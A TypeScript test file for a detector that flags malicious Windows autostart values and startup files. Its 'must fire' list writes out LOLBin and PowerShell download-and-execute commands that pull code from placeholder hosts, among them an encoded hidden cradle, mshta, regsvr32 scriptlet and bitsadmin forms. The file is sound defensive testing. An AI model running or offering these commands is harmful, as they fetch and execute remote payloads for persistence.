import { test } from 'node:test';
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { analyzeValue } from './analyze-value.js';
import { analyzeStartupFile } from './analyze-startup-file.js';
import { analyzeWriter } from '../writer/analyze-writer.js';

interface Table {
  values: {
    source: string;
    details: string;
    image: string;
    expectedSignals: string[];
    expectedWriterSignals: string[];
  }[];
  startupFiles: { source: string; targetFilename: string; expectedSignals: string[] }[];
}
const table = JSON.parse(
  readFileSync(new URL('./corpus-values.table.json', import.meta.url), 'utf8'),
) as Table;

const ids = (s: { id: string }[]): string[] => s.map((x) => x.id).sort();

test('corpus Run-key and autostart values (labels.json): exact signals', () => {
  for (const v of table.values) {
    assert.deepEqual(ids(analyzeValue(v.details).signals), [...v.expectedSignals].sort(), v.source);
    assert.deepEqual(
      ids(analyzeWriter({ image: v.image })),
      [...v.expectedWriterSignals].sort(),
      v.source,
    );
  }
});

test('corpus Startup-folder files (labels.json): exact signals', () => {
  for (const f of table.startupFiles) {
    assert.deepEqual(
      ids(analyzeStartupFile(f.targetFilename)),
      [...f.expectedSignals].sort(),
      f.source,
    );
  }
});

// Strings from /work/shared/reference/existing-tools.md (rule indicators, Empire loader) and
// the ATT&CK / LOLBAS command forms they describe. [value, signals that must fire].
const MUST: [string, string[]][] = [
  ['C:\\Users\\u\\AppData\\Local\\Temp\\a.exe', ['path-temp']],
  ['%TEMP%\\upd.exe', ['path-temp']],
  ['%tmp%\\upd.exe', ['path-temp']],
  ['C:\\Windows\\Temp\\x.exe', ['path-temp']],
  ['C:\\Temp\\x.exe', ['path-temp']],
  ['C:\\ProgramData\\x.exe', ['path-programdata']],
  ['%ProgramData%\\x\\x.exe', ['path-programdata']],
  ['C:\\Users\\Public\\x.exe', ['path-public']],
  ['%Public%\\x.exe', ['path-public']],
  ['C:\\$Recycle.Bin\\S-1-5-21-1\\x.exe', ['path-recycle-bin']],
  ['C:\\PerfLogs\\x.exe', ['path-perflogs']],
  ['C:\\Users\\bob\\Downloads\\x.exe', ['path-downloads']],
  ['\\\\10.0.0.5\\share\\x.exe', ['path-unc']],
  ['\\\\evil.example@SSL\\DavWWWRoot\\x.exe', ['path-webdav', 'url-in-value']],
  ['\\\\evil.example@80\\x\\x.exe', ['path-webdav', 'url-in-value']],
  ['C:\\Users\\bob\\Documents\\x.exe', ['path-user-profile']],
  ['C:\\Users\\bob\\Music\\x.exe', ['path-user-profile']],
  ['C:\\Users\\bob\\x.exe', ['path-users-root']],
  ['C:\\Users\\Default\\x.exe', ['path-users-root']],
  ['%APPDATA%\\x.exe', ['path-appdata']],
  ['C:\\PROGRA~3\\x.exe', ['path-programdata']],
  ['"C:\\Users\\u\\AppData\\Local\\Temp\\..\\..\\Roaming\\x.exe"', ['path-appdata']],
  [
    'powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAGkAdwByACAAaAB0AHQAcAA6AC8ALwB4AC4AeQAvAHoAKQA=',
    [
      'encoded-powershell',
      'powershell-hidden',
      'powershell-download',
      'url-in-value',
      'script-interpreter',
    ],
  ],
  [
    'powershell -ExecutionPolicy Bypass -File C:\\Users\\Public\\a.ps1',
    ['powershell-hidden', 'script-file', 'path-public', 'script-interpreter'],
  ],
  [
    'pwsh -c "IEX (New-Object Net.WebClient).DownloadString(\'http://a/b\')"',
    ['powershell-download', 'url-in-value'],
  ],
  [
    'powershell -c "Start-BitsTransfer -Source http://a/b -Destination $env:TEMP\\b.exe"',
    ['powershell-download'],
  ],
  [
    'cmd /c bitsadmin /transfer j http://a/b C:\\ProgramData\\b.exe',
    ['powershell-download', 'lolbin-other', 'path-programdata'],
  ],
  ['mshta.exe http://a.example/x.hta', ['lolbin-mshta', 'mshta-url', 'url-in-value']],
  [
    'mshta javascript:a=GetObject("script:https://a/x.sct").Exec();close();',
    ['lolbin-mshta', 'mshta-inline-script'],
  ],
  [
    'regsvr32 /s /n /u /i:http://a/file.sct scrobj.dll',
    ['lolbin-regsvr32', 'regsvr32-scrobj', 'url-in-value'],
  ],
  [
    'rundll32.exe C:\\Users\\u\\AppData\\Roaming\\x.dat,#1',
    ['lolbin-rundll32', 'rundll32-unusual-entry', 'path-appdata'],
  ],
  [
    'rundll32.exe javascript:"\\..\\mshtml,RunHTMLApplication ";alert(1)',
    ['lolbin-rundll32', 'mshta-inline-script', 'rundll32-unusual-entry'],
  ],
  ['rundll32 C:\\Users\\u\\AppData\\Roaming\\x.wll,#1', ['rundll32-unusual-entry']],
  ['rundll32.exe C:\\Path\\AtomicRedTeam.dll,Run', ['lolbin-rundll32', 'rundll32-unusual-entry']],
  [
    'wscript.exe "C:\\Users\\u\\AppData\\Roaming\\a.vbs"',
    ['script-interpreter', 'script-file', 'path-appdata'],
  ],
  ['C:\\Users\\u\\AppData\\Roaming\\a.js', ['script-file', 'path-appdata']],
  ['C:\\Users\\u\\Downloads\\invoice.pdf.exe', ['double-extension', 'path-downloads']],
  ['C:\\Users\\u\\Downloads\\photo.jpg     .scr', ['double-extension']],
  ['C:\\ProgramData\\lsass.exe', ['system-binary-masquerade']],
  ['C:\\Windows\\explorer.exe\\..\\Tasks\\explorer.exe', ['system-binary-masquerade']],
  ['C:\\Users\\u\\AppData\\Roaming\\svchosts.exe', ['system-binary-masquerade']],
  ['cmd /c reg query HKLM\\Software\\x /v p & calc', ['registry-indirection']],
  [
    "powershell -c \"iex ([Microsoft.Win32.Registry]::CurrentUser.OpenSubKey('Software\\x').GetValue('p'))\"",
    ['registry-indirection'],
  ],
  [
    'powershell -c "iex (Get-ItemProperty -Path HKCU:\\Software\\x -Name p).p"',
    ['registry-indirection'],
  ],
  [
    'cmd.exe /c start /min C:\\Users\\Public\\x.bat',
    ['script-interpreter', 'script-file', 'path-public'],
  ],
  ['"C:\\Program Files\\x\\y.exe" --url https://vendor.example/update', ['url-in-value']],
  ['powershell -c "$c.DownloadS`tring($u)"', ['powershell-download']],
  [
    'conhost.exe --headless powershell -w hidden -ep bypass -f C:\\Users\\Public\\a.ps1',
    ['lolbin-other', 'script-interpreter', 'powershell-hidden', 'script-file', 'path-public'],
  ],
  [
    'forfiles /p c:\\windows\\system32 /m notepad.exe /c "cmd /c C:\\ProgramData\\x.bat"',
    ['lolbin-other', 'script-interpreter', 'script-file', 'path-programdata'],
  ],
];

// Values that must stay quiet (Windows and common software, SigmaHQ filters).
const QUIET: string[] = [
  'C:\\Windows\\system32\\SecurityHealthSystray.exe',
  '"C:\\Program Files\\Microsoft OneDrive\\OneDrive.exe" /background',
  'C:\\Program Files\\Spotify\\Spotify.exe --autostart --minimized',
  '"C:\\Program Files (x86)\\Common Files\\Java\\Java Update\\jusched.exe"',
  'C:\\Windows\\system32\\ctfmon.exe /n',
  '%windir%\\system32\\svchost.exe -k netsvcs',
  'explorer.exe',
  'C:\\PROGRA~1\\VMware\\VMWARE~1\\vmtoolsd.exe -n vmusr',
  'rundll32.exe C:\\Windows\\system32\\advpack.dll,DelNodeRunDLL32 "C:\\Windows\\Temp\\x"',
  '(Empty)',
  'DWORD (0x00000001)',
];

test('indicator strings of existing tools: signals that must fire', () => {
  for (const [value, want] of MUST) {
    const got = ids(analyzeValue(value).signals);
    for (const id of want)
      assert.ok(got.includes(id), `${value}: missing ${id} (got ${got.join(',')})`);
  }
});

test('ordinary autostart values stay quiet', () => {
  for (const v of QUIET) assert.deepEqual(analyzeValue(v).signals, [], v);
});

test('CommandInfo carries executable, arguments and the decoded payload', () => {
  const enc = Buffer.from('Write-Host hi', 'utf16le').toString('base64');
  const a = analyzeValue(
    `"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe" -w 1 -e ${enc}`,
  );
  assert.deepEqual(a.command, {
    executable: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
    arguments: `-w 1 -e ${enc}`,
    decoded: 'Write-Host hi',
  });
  const enc2 = a.signals.find((s) => s.id === 'encoded-powershell');
  assert.equal(enc2?.detail, 'Write-Host hi');
});
